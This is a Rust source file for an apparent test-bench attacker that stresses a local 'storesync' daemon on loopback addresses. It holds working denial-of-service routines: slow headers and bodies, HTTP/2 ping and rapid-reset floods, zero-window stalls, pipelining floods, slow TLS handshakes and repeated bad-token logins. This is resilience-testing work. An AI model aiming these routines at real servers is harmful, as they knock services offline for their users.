//! The attacker: every trick that is known, over and over, from a few addresses of this machine.

use std::io;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use rustls::pki_types::pem::PemObject as _;
use rustls::pki_types::{CertificateDer, ServerName};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::runtime::Runtime;
use tokio::time::{sleep, timeout};
use tokio_rustls::TlsConnector;

/// What begins again does so after this.
const PAUSE: Duration = Duration::from_millis(500);
/// How long a connection is held that is only to be there.
const HELD: Duration = Duration::from_secs(120);
/// The tricks that are played, with commas between them; all where it is not set.
const TRICKS: &str = "STORESYNC_ATTACK_TRICKS";
const HTTP2: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Whom it is about.
struct Target {
    api: SocketAddr,
    admin: SocketAddr,
    store: String,
    /// Empty without one.
    token: String,
}

pub fn run() {
    let told = |name: &str| std::env::var(name).expect("the bench starts it");
    let target = Arc::new(Target {
        api: told("ATTACK_API").parse().expect("an address"),
        admin: told("ATTACK_ADMIN").parse().expect("an address"),
        store: told("ATTACK_STORE"),
        token: told("ATTACK_TOKEN"),
    });
    let limit = rustix::process::getrlimit(rustix::process::Resource::Nofile);
    let raised = rustix::process::Rlimit {
        current: limit.maximum,
        ..limit
    };
    rustix::process::setrlimit(rustix::process::Resource::Nofile, raised).expect("files");
    Runtime::new().expect("a runtime").block_on(all(&target));
}

/// Has so many do something over and over, unless only others are wanted.
fn many<F>(
    target: &Arc<Target>,
    name: &str,
    count: usize,
    trick: impl Fn(Arc<Target>, usize) -> F + Clone + Send + 'static,
) where
    F: Future<Output = io::Result<()>> + Send + 'static,
{
    let is_wanted = |tricks: String| tricks.split(',').any(|wanted| wanted == name);
    if !std::env::var(TRICKS).map_or(true, is_wanted) {
        return;
    }
    for number in 0..count {
        let (target, trick) = (Arc::clone(target), trick.clone());
        tokio::spawn(async move {
            loop {
                let _ended = trick(Arc::clone(&target), number).await;
                sleep(PAUSE).await;
            }
        });
    }
}

async fn all(target: &Arc<Target>) {
    many(target, "pipeline", 64, async |target: Arc<Target>, number| {
        pipeline(&target, number).await
    });
    many(target, "windows", 40, async |target: Arc<Target>, number| {
        windows(&target, number).await
    });
    many(target, "pings", 8, async |target: Arc<Target>, number| {
        pings(&target, number).await
    });
    many(target, "resets", 8, async |target: Arc<Target>, number| {
        resets(&target, number).await
    });
    many(target, "body", 200, async |target: Arc<Target>, number| {
        body(&target, number).await
    });
    many(target, "listen", 300, async |target: Arc<Target>, number| {
        listen(&target, number).await
    });
    many(target, "read_much", 32, async |target: Arc<Target>, number| {
        read_much(&target, number).await
    });
    many(target, "read_slowly", 32, async |target: Arc<Target>, number| {
        read_slowly(&target, number).await
    });
    many(target, "come_and_go", 8, async |target: Arc<Target>, number| {
        come_and_go(&target, number).await
    });
    many(target, "guess", 8, async |target: Arc<Target>, number| {
        guess(&target, number).await
    });
    many(target, "greet", 300, async |target: Arc<Target>, number| {
        greet(&target, number, false).await
    });
    many(target, "greet_slowly", 64, async |target: Arc<Target>, number| {
        greet(&target, number, true).await
    });
    // The rest of the places, in steps, so that the others have begun.
    for _ in 0..80 {
        many(target, "silence", 100, async |target: Arc<Target>, number| {
            silence(&target, number).await
        });
        many(target, "head", 100, async |target: Arc<Target>, number| {
            head(&target, number).await
        });
        sleep(Duration::from_millis(100)).await;
    }
    std::future::pending::<()>().await;
}

/// A connection from one of four addresses, each with its own ports.
async fn connect(address: SocketAddr, number: usize) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    let own = [127, 0, 0, 2 + u8::try_from(number % 4).unwrap_or(0)];
    socket.bind((own, 0).into())?;
    let stream = socket.connect(address).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

impl Target {
    fn get(&self, path: &str) -> String {
        format!("GET {path} HTTP/1.1\r\nhost: localhost\r\n{}\r\n", self.header())
    }

    fn header(&self) -> String {
        match self.token.is_empty() {
            true => String::new(),
            false => format!("authorization: Bearer {}\r\n", self.token),
        }
    }

    /// Something large: all that may be had without a token is the document.
    fn large(&self) -> String {
        match self.token.is_empty() {
            true => "/openapi.json".to_owned(),
            false => format!("/v1/stores/{}/products?limit=200", self.store),
        }
    }

    /// A request of HTTP/2 for it.
    fn headers(&self, stream: u32) -> Vec<u8> {
        let text = |mut head: Vec<u8>, text: &str| {
            head.push(u8::try_from(text.len()).unwrap_or(0));
            head.extend_from_slice(text.as_bytes());
            head
        };
        let mut block = text(vec![0x82, 0x86, 0x04], &self.large());
        block = text([block, vec![0x41]].concat(), "localhost");
        if !self.token.is_empty() {
            block = text(
                [block, vec![0x0f, 0x08]].concat(),
                &format!("Bearer {}", self.token),
            );
        }
        frame(1, 5, stream, &block)
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u8::try_from(payload.len()).unwrap_or(0);
    [&[0, 0, length, kind, flags][..], &stream.to_be_bytes(), payload].concat()
}

/// Reads until the other side closes.
async fn drain(stream: &mut TcpStream) -> io::Result<()> {
    let mut buffer = vec![0; 16 * 1024];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(())
}

/// Connects and says nothing.
async fn silence(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = connect(target.api, number).await?;
    drain(&mut stream).await
}

/// A head that goes on for as long as it may.
async fn head(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = connect(target.api, number).await?;
    stream
        .write_all(b"GET /v1/stores HTTP/1.1\r\nhost: localhost\r\nx-a: ")
        .await?;
    loop {
        stream.write_all(b"a").await?;
        sleep(Duration::from_secs(3)).await;
    }
}

/// A body that does not end.
async fn body(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = connect(target.api, number).await?;
    let head = format!(
        "POST /v1/stores/{}/orders HTTP/1.1\r\nhost: localhost\r\n{}content-type: application/json\r\n\
         content-length: 1048575\r\n\r\n",
        target.store,
        target.header()
    );
    stream.write_all(head.as_bytes()).await?;
    let _sent = timeout(HELD, stream.write_all(&vec![b' '; 1_000_000])).await;
    timeout(HELD, drain(&mut stream)).await?
}

/// Many requests, and no answer is read.
async fn pipeline(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = connect(target.api, number).await?;
    let requests = target.get(&target.large()).repeat(2_000);
    timeout(HELD, stream.write_all(requests.as_bytes())).await?
}

/// Many requests of HTTP/2 whose answers have no room.
async fn windows(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = connect(target.api, number).await?;
    stream.write_all(HTTP2).await?;
    stream.write_all(&frame(4, 0, 0, &[0, 4, 0, 0, 0, 0])).await?;
    for number in 0..100 {
        stream.write_all(&target.headers(2 * number + 1)).await?;
    }
    timeout(HELD, drain(&mut stream)).await?
}

/// Pings as fast as they are taken, with their answers read.
async fn pings(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = connect(target.api, number).await?;
    stream.write_all(&[HTTP2, &frame(4, 0, 0, &[])].concat()).await?;
    let many = frame(6, 0, 0, &[0; 8]).repeat(1_000);
    let (mut reads, mut writes) = stream.split();
    let mut buffer = vec![0; 64 * 1024];
    let flooding = async {
        loop {
            writes.write_all(&many).await?;
        }
    };
    let draining = async {
        while reads.read(&mut buffer).await? > 0 {}
        io::Result::Ok(())
    };
    tokio::select! {
        ended = flooding => ended,
        ended = draining => ended,
    }
}

/// Requests that are taken back at once.
async fn resets(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = connect(target.api, number).await?;
    stream.write_all(&[HTTP2, &frame(4, 0, 0, &[])].concat()).await?;
    for number in 0..10_000 {
        let stream_id = 2 * number + 1;
        let both = [target.headers(stream_id), frame(3, 0, stream_id, &[0, 0, 0, 8])].concat();
        stream.write_all(&both).await?;
    }
    Ok(())
}

/// A stream of changes with rows from the oldest on, that is not read.
async fn listen(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = connect(target.api, number).await?;
    let path = format!("/v1/changes?store={}&rows=true&since=0", target.store);
    stream.write_all(target.get(&path).as_bytes()).await?;
    sleep(HELD / 4).await;
    Ok(())
}

/// Reads that look at many rows and find none.
async fn read_much(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = connect(target.api, number).await?;
    let path = match target.token.is_empty() {
        true => "/openapi.json".to_owned(),
        false => format!("/v1/stores/{}/products?limit=200&family=nope", target.store),
    };
    let request = target.get(&path);
    let mut buffer = vec![0; 256 * 1024];
    loop {
        stream.write_all(request.as_bytes()).await?;
        if stream.read(&mut buffer).await? == 0 {
            return Ok(());
        }
    }
}

/// A large answer, a KiB a second.
async fn read_slowly(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = connect(target.api, number).await?;
    stream
        .write_all(target.get(&target.large()).repeat(20).as_bytes())
        .await?;
    let mut buffer = [0; 1_024];
    while stream.read(&mut buffer).await? > 0 {
        sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}

/// Connections that go as soon as they have come.
async fn come_and_go(target: &Target, number: usize) -> io::Result<()> {
    for _ in 0..200 {
        drop(connect(target.api, number).await?);
    }
    Ok(())
}

fn name() -> ServerName<'static> {
    ServerName::try_from("localhost").expect("a name")
}

/// A hello of TLS at the operators' door, and then silence; slowly, or at once.
async fn greet(target: &Target, number: usize, slowly: bool) -> io::Result<()> {
    let mut hello = Vec::new();
    rustls::ClientConnection::new(tls(), name())
        .map_err(io::Error::other)?
        .write_tls(&mut hello)?;
    let mut stream = connect(target.admin, number).await?;
    if slowly {
        for byte in hello {
            stream.write_all(&[byte]).await?;
            sleep(Duration::from_secs(1)).await;
        }
    } else {
        stream.write_all(&hello).await?;
    }
    timeout(HELD, drain(&mut stream)).await?
}

/// Log-ins with a token that nobody has.
async fn guess(target: &Target, number: usize) -> io::Result<()> {
    let stream = connect(target.admin, number).await?;
    let mut stream = TlsConnector::from(tls()).connect(name(), stream).await?;
    let body = "token=wrong";
    let host = target.admin;
    let request = format!(
        "POST /login HTTP/1.1\r\nhost: {host}\r\norigin: https://{host}\r\n\
         content-type: application/x-www-form-urlencoded\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    );
    let mut buffer = vec![0; 16 * 1024];
    loop {
        stream.write_all(request.as_bytes()).await?;
        if stream.read(&mut buffer).await? == 0 {
            return Ok(());
        }
    }
}

/// The certificate of the daemon is trusted.
fn tls() -> Arc<rustls::ClientConfig> {
    let mut roots = rustls::RootCertStore::empty();
    let path = std::env::var("ATTACK_CERTIFICATE").unwrap_or_default();
    for certificate in CertificateDer::pem_file_iter(path)
        .into_iter()
        .flatten()
        .flatten()
    {
        let _added = roots.add(certificate);
    }
    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    let config = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .expect("versions")
        .with_root_certificates(roots)
        .with_no_client_auth();
    Arc::new(config)
}
